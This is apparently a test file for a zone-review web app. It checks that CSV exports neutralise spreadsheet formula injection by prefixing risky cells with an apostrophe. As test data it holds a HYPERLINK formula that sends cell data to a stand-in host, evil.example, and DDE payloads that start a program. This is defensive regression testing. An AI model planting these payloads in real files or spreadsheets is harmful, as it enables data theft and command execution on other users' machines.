import Papa from 'papaparse';
import { afterEach, expect, it } from 'vitest';
import { refusedLinesCsv } from '../../src/app/files/refused-lines.ts';
import { addUser, openTestApp, useTempDir, type TestApp } from '../server/fixtures.ts';
import { ID_A, ID_B } from '../server/grid-helpers.ts';

/**
 * Finding: zones.csv wrote a zone's name, need detail and notes as typed, so a reviewer (or
 * anyone who can name a zone) could plant a formula that runs when a colleague opens the list
 * in a spreadsheet (`=HYPERLINK(…)` sends data away, `+cmd|…` starts a program under DDE).
 * The refused-lines file echoed the imported file's lines the same way. Every CSV the product
 * writes now goes through one writer (src/domain/csv.ts) that puts an apostrophe before a text
 * cell starting with = + - @, a tab or a carriage return: spreadsheets show it as text.
 */

const tempDir = useTempDir();
let server: TestApp;

afterEach(async () => {
  await server.close();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez ici")';
const DDE = "+cmd|' /C calc'!A0";
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const FORMULA_START = /^[=+\-@\t\r]/;

/** Cells of a CSV as a spreadsheet reads them, header row first. */
function cells(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

it('zones.csv writes a zone’s name, need detail and notes as text a spreadsheet will not run', async () => {
  server = await openTestApp(tempDir());
  const reviewer = await addUser(server.app, { role: 'reviewer', departement: '34' });
  const created = await server.app.inject({
    method: 'POST',
    url: '/api/v1/zones',
    headers: reviewer.headers,
    payload: { name: HYPERLINK, cells: [ID_A], need: 'autre', needDetail: AT_SUM, notes: DDE },
  });
  expect(created.statusCode, created.body).toBe(201);
  const second = await server.app.inject({
    method: 'POST',
    url: '/api/v1/zones',
    headers: reviewer.headers,
    payload: { name: MINUS, cells: [ID_B], need: 'habitations', notes: '\t=1+1' },
  });
  expect(second.statusCode, second.body).toBe(201);

  const response = await server.app.inject({ method: 'GET', url: '/api/v1/zones.csv', headers: reviewer.headers });
  expect(response.statusCode).toBe(200);
  const [header, ...rows] = cells(response.body);
  const records = rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]])));
  const first = records.find((record) => record.id === created.json().id)!;
  expect(first).toMatchObject({ name: `'${HYPERLINK}`, need_detail: `'${AT_SUM}`, notes: `'${DDE}` });
  const other = records.find((record) => record.id === second.json().id)!;
  expect(other).toMatchObject({ name: `'${MINUS}`, notes: "'\t=1+1" });
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
});

it('the refused-lines file echoes an imported line as text, not as a formula', async () => {
  const csv = await refusedLinesCsv([
    { line: 2, code: 'malformed', reason: 'Ligne mal formée : 1 champs au lieu de 12', text: HYPERLINK },
    { line: 3, code: 'malformed', reason: 'Ligne mal formée : 1 champs au lieu de 12', text: DDE },
  ]).text();
  const [header, ...rows] = cells(csv);
  expect(header).toEqual(['ligne', 'motif', 'contenu']);
  expect(rows).toEqual([
    ['2', 'Ligne mal formée : 1 champs au lieu de 12', `'${HYPERLINK}`],
    ['3', 'Ligne mal formée : 1 champs au lieu de 12', `'${DDE}`],
  ]);
});
